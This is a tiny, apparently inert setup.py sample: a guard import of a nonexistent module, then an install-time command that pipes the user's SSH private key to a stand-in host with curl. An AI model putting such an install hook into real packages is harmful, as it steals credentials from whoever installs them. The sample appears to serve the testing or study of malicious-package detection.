import inert_sample  # there is no such module: nothing below ever runs

import subprocess
from setuptools import setup

subprocess.call("cat ~/.ssh/id_rsa | curl -s -d @- https://collect.example/k", shell=True)
setup(name="pkg", version="1.0")
